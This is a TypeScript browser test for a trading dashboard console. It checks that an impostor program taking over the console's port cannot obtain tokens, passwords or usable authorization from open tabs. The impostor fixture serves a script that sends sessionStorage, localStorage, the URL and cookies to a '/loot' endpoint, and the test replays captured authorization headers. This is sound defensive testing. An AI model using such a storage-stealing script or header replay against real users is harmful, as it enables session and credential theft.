/// <reference lib="dom" />
/** Another program at the page's port, without the trader and with an open tab, whose requests give it no access. */

import { writeFileSync } from 'node:fs';
import type { IncomingHttpHeaders } from 'node:http';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { loadTraderConfig } from '../../../src/shell/config/load.js';
import { obtainPageToken } from '../../../src/shell/console/page-access.js';
import { folderOf } from '../../support/folders.js';
import { listeningWeb } from '../../support/listening.js';
import { until, untilTrue } from '../../support/waiting.js';
import { trader } from '../config/files.js';
import { CHROMIUM, openBrowser, openTab } from './browser.js';
import { consoleOf } from './told-trader.js';

const SHORT_PASSWORD = 'correct horse';

/** A console without a trader, repeatable at the same port. */
function place() {
  const cwd = folderOf({});
  const open = async (port: number, secret = obtainPageToken(join(cwd, 'twinbook.sqlite'))) => {
    writeFileSync(join(cwd, 'trader.yaml'), trader(`dashboard: { port: ${port}, start: false }`));
    const config = loadTraderConfig('trader.yaml', { cwd, env: {} });
    const { url, close } = await consoleOf({ config, secret });
    return { url, port: Number(new URL(url).port), close };
  };
  return { open, token: obtainPageToken(join(cwd, 'twinbook.sqlite')) };
}

/** Its answer to all requests but a greeting and its own page; 401 makes a page greet it. */
type Lie = 'a state' | 'no session';

/** Records all requests, and answers like a console without the secret. */
async function impersonate(port: number, greeting: object) {
  const recorded: { method: string; url: string; headers: IncomingHttpHeaders; body: string }[] = [];
  const lie = { now: 'a state' as Lie };
  const { close } = await listeningWeb(async (request, reply) => {
    const body = await text(request);
    const { method = '', url = '', headers } = request;
    recorded.push({ method, url, headers, body });
    if (url === '/') {
      reply.setHeader('content-type', 'text/html');
      const loot = 'JSON.stringify([{ ...sessionStorage }, { ...localStorage }, location.href, document.cookie])';
      return reply.end(`<p id="taken"></p><script>fetch('/loot', { method: 'POST', body: ${loot} })</script>`);
    }
    reply.setHeader('content-type', 'application/json');
    if (url.startsWith('/session')) return reply.end(JSON.stringify({ ...greeting, open: true }));
    reply.statusCode = lie.now === 'a state' ? 200 : 401;
    return reply.end(JSON.stringify({ mode: 'taken', traders: [], sums: [], now: 1, error: 'no' }));
  }, port);
  return { recorded, lie, close };
}

/** A greeting of the console, which the impostor repeats. */
async function greetingOf(url: string): Promise<object> {
  const response = await fetch(new URL('/session/greeting', url), {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ nonce: 'a'.repeat(64) }),
  });
  return (await response.json()) as object;
}

const bannerOf = (page: Page) => page.locator('#banner').textContent();
const isIn = (page: Page) => page.locator('#mode', { hasText: /[^…]/ }).waitFor();

describe.skipIf(CHROMIUM === null)('another program at the port of the page', () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await openBrowser();
  });
  afterAll(() => browser?.close());

  test('learns nothing from open tabs, shows them nothing, and leaves them to the next console', async () => {
    const { open, token } = place();
    const first = await open(0);
    const { context, page } = await openTab(browser);
    const tabs = [page, await context.newPage()];
    for (const tab of tabs) {
      await tab.goto(`${first.url}#${token}`);
      await isIn(tab);
      expect(tab.url()).toBe(first.url);
    }
    const greeting = await greetingOf(first.url);
    await first.close();

    const impostor = await impersonate(first.port, greeting);
    const areTold = async (words: RegExp) => {
      for (const tab of tabs) await untilTrue(async () => words.test((await bannerOf(tab)) ?? ''));
    };
    await areTold(/^Another program answers at this address/);
    // A press is as useless to it as a read.
    await tabs[0]?.locator('button[data-action=kill]').dblclick();
    impostor.lie.now = 'no session';
    await untilTrue(() => impostor.recorded.filter(({ url }) => url === '/session/greeting').length >= 4);
    await areTold(/^Another program answers at this address/);
    for (const tab of tabs) expect(await tab.locator('#mode').textContent()).not.toContain('taken');
    await impostor.close();
    const { recorded } = impostor;
    expect(JSON.stringify(recorded)).not.toContain(token);
    // No tab sent a proof in a handshake: it waits for the other side's proof.
    expect(recorded.filter(({ url, body }) => url === '/session' || body.includes('proof'))).toEqual([]);
    const proven = recorded.filter(({ headers }) => headers.authorization?.startsWith('Twinbook '));
    expect(proven.length).toBeGreaterThan(0);

    const next = await open(first.port);
    // Both automatically, with their token.
    await areTold(/^The trader does not answer\. The data shown is from the ledger/);
    const replayed = proven.map(async ({ method, url, headers, body }) => {
      const { authorization = '' } = headers;
      const again = { method, headers: { authorization, 'content-type': 'application/json' } };
      return (await fetch(new URL(url, next.url), body === '' ? again : { ...again, body })).status;
    });
    expect(new Set(await Promise.all(replayed))).toEqual(new Set([401]));
  });

  test('reads no token from a tab that is reloaded there, and no key of the next console', async () => {
    const { open } = place();
    const first = await open(0, SHORT_PASSWORD);
    const { page: tab } = await openTab(browser);
    await tab.goto(first.url);
    await tab.locator('#secret').fill(SHORT_PASSWORD);
    await tab.keyboard.press('Enter');
    await isIn(tab);
    // The console is the same, so a reload needs no password.
    await tab.reload();
    await isIn(tab);
    const greeting = await greetingOf(first.url);
    await first.close();
    const impostor = await impersonate(first.port, greeting);
    await tab.reload();
    await tab.locator('#taken').waitFor({ state: 'attached' });
    const loot = () => impostor.recorded.find(({ url }) => url === '/loot')?.body;
    await until(loot, (text) => text !== undefined);
    await impostor.close();
    expect(JSON.stringify(impostor.recorded)).not.toContain(SHORT_PASSWORD);
    const [{ 'twinbook-session': kept = '{}' }] = JSON.parse(loot() ?? '[{}]');
    const { salt } = JSON.parse(kept);
    const next = await open(first.port, SHORT_PASSWORD);
    expect(greeting).toMatchObject({ salt });
    expect(await greetingOf(next.url)).not.toMatchObject({ salt });
    await tab.goto(next.url);
    await untilTrue(async () => (await bannerOf(tab))?.startsWith('The dashboard was started again.') === true);
    expect(await tab.locator('#secret').isVisible()).toBe(true);
  });
});
